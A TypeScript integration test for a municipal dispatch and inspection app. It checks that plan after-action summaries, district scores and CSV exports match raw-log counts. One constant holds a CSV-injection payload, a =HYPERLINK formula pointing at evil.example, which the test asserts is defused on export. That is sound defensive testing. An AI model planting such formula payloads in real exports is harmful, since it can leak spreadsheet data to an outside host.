import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  worldNow,
  type InspectionPoint,
  type Inspection,
  type LogEvent,
  type PlanDef,
  type PrepositionOrder,
  type ReplaySummary,
} from '@egret/protocol';
import type { EgretConfig } from '@egret/config';
import { waitFor } from './hub-fixture.ts';
import { input, readLogEvents, registerUnit } from './loop-fixture.ts';
import {
  addUser,
  connectOutcome,
  PASSWORD,
  screenWith,
  sendCommand,
  sessionCookie,
  startAuthHub,
  type AuthHub,
  type AuthSocket,
} from './auth-fixture.ts';
import { planConfig } from './plans-fixture.ts';

const HOUR = 3_600_000;
const MINUTE = 60_000;
const POINTS = 12;
/** A 督办 note as an attacker would write it: a spreadsheet formula, quotes, a comma and a line break. */
const NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我"),\n@SUM(1)';
/** Six assessment points in each of Siming and Huli, and a 文明创建 plan whose Ⅳ walks them daily within 2 h. */
function withCivilisedPlan(base: EgretConfig): EgretConfig {
  const points: InspectionPoint[] = Array.from({ length: 12 }, (_, i) => ({
    id: `AP-${String(i + 1).padStart(3, '0')}`,
    kind: 'assessment_point',
    name: `测评点位 ${i + 1}`,
    position: i < 6 ? [118.09 + i * 0.002, 24.46] : [118.12 + i * 0.002, 24.51],
    district: i < 6 ? '350203' : '350206',
    site: 'market',
    approximate: true,
  }));
  const plan: PlanDef = {
    id: 'test-civilised',
    name: '文明创建迎检（测试）',
    campaign: 'civilised_city',
    mode: 'civilised_city',
    version: 'test',
    levels: [
      {
        level: 'IV',
        name: '文明创建Ⅳ级',
        triggers: [],
        actions: [
          {
            kind: 'round',
            id: 'assess',
            name: '测评点位巡查',
            pointSet: 'test-assess',
            dueMinutes: 120,
            repeatMinutes: 1440,
            problem: { categoryCode: '06010', urgency: 'normal', deadlineHours: 24 },
          },
        ],
      },
    ],
  };
  return { ...base, plans: [...base.plans, plan], pointSets: new Map([...base.pointSets, ['test-assess', points]]) };
}

/** World time of the drill: a whole hour a day ahead of real time, so no event before it runs later than it. */
const W0 = Math.ceil((Date.now() + 24 * HOUR) / HOUR) * HOUR;

describe('the after-action summary of a plan (issue #17): what was ordered, done by when and late, as the raw log says', () => {
  let hub: AuthHub;
  let cookie: string;
  const sockets: AuthSocket[] = [];
  const screenOf = async (user: string): Promise<AuthSocket> => {
    const socket = screenWith(hub.url, { cookie: await sessionCookie(hub.url, user, PASSWORD) });
    sockets.push(socket);
    expect(await connectOutcome(socket)).toBe('connected');
    return socket;
  };
  const world = () => hub.app.world();
  const clockAt = async (baseWorld: number) => {
    await input(hub.redis, hub.keys, {
      kind: 'clock.set',
      at: baseWorld,
      clock: { baseReal: Date.now(), baseWorld, rate: 1 },
    });
    await waitFor(`the clock at ${new Date(baseWorld).toISOString()}`, () => world().clock.baseWorld === baseWorld);
  };
  const nowWorld = () => worldNow(world().clock, Date.now());
  const check = async (i: Inspection, result: 'passed' | 'problem', caseId?: string) => {
    await input(hub.redis, hub.keys, {
      kind: 'inspection.check',
      inspectionId: i.id,
      unitId: `U-${i.squadId}`,
      result,
      ...(caseId ? { caseId } : {}),
      at: nowWorld(),
    });
    await waitFor(`${i.id} checked`, () => world().inspections.get(i.id)?.status === result);
  };

  beforeAll(async () => {
    // The leader's pass is slowed right down: the plan moves by the commands and checks of the test alone.
    hub = await startAuthHub('plan-report', {
      config: withCivilisedPlan(planConfig(POINTS)),
      planTickMs: 3_600_000,
    });
    await addUser(hub.store, 'cora', 'commander');
    await addUser(hub.store, 'dan', 'dispatcher');
    cookie = await sessionCookie(hub.url, 'cora', PASSWORD);
  });
  afterAll(async () => {
    for (const s of sockets) s.close();
    await hub?.closeAll();
  });

  it('activate, check some on time, let some run over, raise the level, 督办: the summary says exactly that', async () => {
    const cora = await screenOf('cora');
    const dan = await screenOf('dan');
    await clockAt(W0);
    const activated = await sendCommand(cora, 'plan:activate', {
      planId: 'test-typhoon',
      level: 'IV',
      reason: '蓝色预警',
    });
    expect(activated).toMatchObject({ ok: true, data: { issued: { inspections: POINTS } } });
    await waitFor('the round in the mirror', () => world().inspections.size === POINTS);
    const round = [...world().inspections.values()].sort((a, b) => (a.id < b.id ? -1 : 1));
    // One unit per squad the round went to, so each check comes from the inspection's own squad.
    const squads = [...new Set(round.map((i) => i.squadId))].sort();
    for (const s of squads)
      await registerUnit(hub.redis, hub.keys, `U-${s}`, {
        squadId: s,
        district: round.find((i) => i.squadId === s)!.district,
      });
    await waitFor('units registered', () => world().units.size === squads.length);

    // On time: three passed, one problem (its case reported in the same commit).
    await check(round[0]!, 'passed');
    await check(round[1]!, 'passed');
    await check(round[2]!, 'passed');
    await check(round[3]!, 'problem', 'PR-1');
    // Four hours on: the round's deadline (180 min) has passed; two checked late, the rest run over.
    await clockAt(W0 + 4 * HOUR);
    await check(round[4]!, 'passed');
    await check(round[5]!, 'problem', 'PR-2');
    // Raised to Ⅱ: two units ordered to the muster point within 60 min; none goes.
    const up = await sendCommand(cora, 'plan:activate', { planId: 'test-typhoon', level: 'II', reason: '橙色预警' });
    expect(up).toMatchObject({ ok: true, data: { issued: { prepositions: 2 } } });
    await waitFor('two orders', () => world().prepositions.size === 2);
    const behind = round[6]!.squadId;
    expect(
      await sendCommand(dan, 'plan:supervise', {
        planId: 'test-typhoon',
        actionId: 'boards',
        squadId: behind,
        note: NOTE,
      }),
    ).toMatchObject({
      ok: true,
    });
    await waitFor('supervised', () => world().supervisions.length === 1);
    await clockAt(W0 + 6 * HOUR);

    const from = W0 - MINUTE;
    const to = W0 + 7 * HOUR;
    const res = await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}`, { headers: { cookie } });
    expect(res.status).toBe(200);
    const summary = (await res.json()) as ReplaySummary;
    expect(summary.plans).toHaveLength(1);
    const plan = summary.plans![0]!;

    // What the test did, in figures.
    expect(plan).toMatchObject({ planId: 'test-typhoon', name: '防台风预案（测试）' });
    expect(plan.orders.map((o) => [o.change, o.level, o.fromLevel, o.reason, o.actor.id, o.actions])).toEqual([
      ['activated', 'IV', undefined, '蓝色预警', 'cora', ['boards']],
      ['level_changed', 'II', 'IV', '橙色预警', 'cora', ['boards', 'muster', 'tight']],
    ]);
    const [boards, muster] = plan.actions;
    expect(boards).toMatchObject({ actionId: 'boards', name: '户外广告巡查', kind: 'round' });
    expect(boards).toMatchObject({ total: POINTS, done: 6, doneLate: 2, problems: 2, pending: 0, overdue: POINTS - 6 });
    expect(muster).toMatchObject({ actionId: 'muster', kind: 'preposition', total: 2, done: 0, overdue: 2 });
    expect(plan.late).toHaveLength(POINTS - 6 + 2 + 2);
    expect(plan.supervisions).toMatchObject([{ actionId: 'boards', squadId: behind, actor: { id: 'dan' } }]);

    // Plain counting over the raw log: the window by the running maximum of `at`, the cohort issued in it.
    let runMax = 0;
    const inWindow: LogEvent[] = [];
    for (const e of await readLogEvents(hub.redis, hub.keys)) {
      runMax = Math.max(runMax, e.at);
      if (runMax > from && runMax <= to) inWindow.push(e);
    }
    const last = new Map<string, Inspection>();
    for (const e of inWindow) {
      if (e.type === 'inspections.issued') for (const i of e.inspections) last.set(i.id, i);
      if (e.type === 'inspection.checked' && last.has(e.inspection.id)) last.set(e.inspection.id, e.inspection);
    }
    const orders = new Map<string, PrepositionOrder>();
    for (const e of inWindow) if (e.type === 'prepositions.changed') for (const o of e.orders) orders.set(o.id, o);
    const all = [...last.values()];
    const tally = (xs: Inspection[]) => ({
      total: xs.length,
      done: xs.filter((i) => i.status !== 'open').length,
      doneLate: xs.filter((i) => i.status !== 'open' && i.checkedAt! > i.due).length,
      overdue: xs.filter((i) => i.status === 'open' && to > i.due).length,
      pending: xs.filter((i) => i.status === 'open' && to <= i.due).length,
      problems: xs.filter((i) => i.status === 'problem').length,
    });
    expect(boards).toMatchObject(tally(all));
    const districts = [...new Set(all.map((i) => i.district))].sort();
    expect(boards!.byDistrict.map((d) => [d.district, d.total, d.done, d.doneLate, d.overdue])).toEqual(
      districts.map((d) => {
        const t = tally(all.filter((i) => i.district === d));
        return [d, t.total, t.done, t.doneLate, t.overdue];
      }),
    );
    for (const s of boards!.bySquad) expect(s).toMatchObject(tally(all.filter((i) => i.squadId === s.squadId)));
    expect(boards!.bySquad.map((s) => s.squadId).sort()).toEqual(squads);
    expect(muster!.total).toBe(orders.size);
    expect(plan.orders).toHaveLength(inWindow.filter((e) => e.type === 'plan.changed').length);
    expect(plan.supervisions).toHaveLength(inWindow.filter((e) => e.type === 'plan.supervised').length);

    // The same in the CSV download.
    const csv = await (
      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}&format=csv`, { headers: { cookie } })
    ).text();
    expect(csv).toContain(
      'plan_action,action,name,kind,first_at,last_due,total,done,done_late,pending,overdue,problems,released',
    );
    expect(csv).toContain(`test-typhoon,boards,户外广告巡查,round,`);
    expect(csv).toMatch(
      new RegExp(`test-typhoon,boards,户外广告巡查,round,[^,]+,[^,]+,${POINTS},6,2,0,${POINTS - 6},2,0`),
    );
    expect(csv).toMatch(/test-typhoon,muster,集结,preposition,[^,]+,[^,]+,2,0,0,0,2,0,0/);

    // Free text reaches the CSV as text: quoted, and a leading formula sign defused with an apostrophe.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我""),\n@SUM(1)"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(plan.supervisions[0]!.note).toBe(NOTE);

    // A window before the plan knows nothing of it.
    const before = (await (
      await fetch(`${hub.url}/api/replay/summary?from=${W0 - 2 * HOUR}&to=${W0 - MINUTE}`, { headers: { cookie } })
    ).json()) as ReplaySummary;
    expect(before.plans).toEqual([]);
  });

  it('文明创建: the day’s 流动红旗 in the summary scores each district as plain counting does', async () => {
    const cora = await screenOf('cora');
    const start = W0 + 8 * HOUR;
    await clockAt(start);
    const activated = await sendCommand(cora, 'plan:activate', { planId: 'test-civilised', level: 'IV' });
    expect(activated).toMatchObject({ ok: true, data: { issued: { inspections: 12 } } });
    await waitFor(
      'the round',
      () => [...world().inspections.values()].filter((i) => i.planId === 'test-civilised').length === 12,
    );
    const round = [...world().inspections.values()]
      .filter((i) => i.planId === 'test-civilised')
      .sort((a, b) => (a.pointId < b.pointId ? -1 : 1));
    for (const s of new Set(round.map((i) => i.squadId)))
      if (!world().units.has(`U-${s}`))
        await registerUnit(hub.redis, hub.keys, `U-${s}`, {
          squadId: s,
          district: round.find((i) => i.squadId === s)!.district,
        });
    await waitFor('units', () => round.every((i) => world().units.has(`U-${i.squadId}`)));
    // Each inspection names its point, so the wall can name a site without the point set.
    expect(round.map((i) => i.name)).toEqual(Array.from({ length: 12 }, (_, i) => `测评点位 ${i + 1}`));
    // Siming: all six passed. Huli: three passed, one problem, two never checked.
    for (const i of round.slice(0, 9)) await check(i, 'passed');
    await check(round[9]!, 'problem', 'PR-CC-1');
    await clockAt(start + 3 * HOUR);

    const from = start - MINUTE;
    const to = start + 3 * HOUR + 30 * MINUTE;
    const summary = (await (
      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}`, { headers: { cookie } })
    ).json()) as ReplaySummary;
    expect(summary.campaignDays).toHaveLength(1);
    const rows = summary.campaignDays![0]!.rows;
    expect(rows.map((r) => [r.district, r.rank, r.flag])).toEqual([
      ['350203', 1, 'red'],
      ['350206', 2, null],
    ]);

    // Plain counting over the raw log, and the formula of campaign-scores written out.
    let runMax = 0;
    const last = new Map<string, Inspection>();
    for (const e of await readLogEvents(hub.redis, hub.keys)) {
      runMax = Math.max(runMax, e.at);
      if (runMax <= from || runMax > to) continue;
      if (e.type === 'inspections.issued')
        for (const i of e.inspections) if (i.kind === 'assessment_point') last.set(i.id, i);
      if (e.type === 'inspection.checked' && last.has(e.inspection.id)) last.set(e.inspection.id, e.inspection);
    }
    for (const d of ['350203', '350206']) {
      const xs = [...last.values()].filter((i) => i.district === d);
      const passed = xs.filter((i) => i.status === 'passed').length;
      const checked = xs.filter((i) => i.status !== 'open').length;
      const settled = checked + xs.filter((i) => i.status === 'open' && to > i.due).length;
      // The one problem's case is within its 24 h: nothing fixed or late yet, so the third part is the on-time share.
      const score =
        Math.round((60 * (passed / settled) + 20 * (checked / settled) + 20 * (checked / settled)) * 10) / 10;
      expect(rows.find((r) => r.district === d)).toMatchObject({ score, settled, passed, inspections: xs.length });
    }
    expect(rows[1]!.score).toBe(56.7);
    // Per squad too: each squad as plain counting scores it.
    const squads = summary.campaignDays![0]!.squads;
    expect(squads.map((q) => q.squadId).sort()).toEqual([...new Set(round.map((i) => i.squadId))].sort());
    for (const q of squads) {
      const xs = [...last.values()].filter((i) => i.squadId === q.squadId);
      expect(q.inspections).toBe(xs.length);
      expect(q.passed).toBe(xs.filter((i) => i.status === 'passed').length);
    }
    const csv = await (
      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}&format=csv`, { headers: { cookie } })
    ).text();
    expect(csv).toMatch(/\n\d{4}-\d\d-\d\d,1,350203,100,,red,6,6,6,0,0,0,0\n/);
  });
});
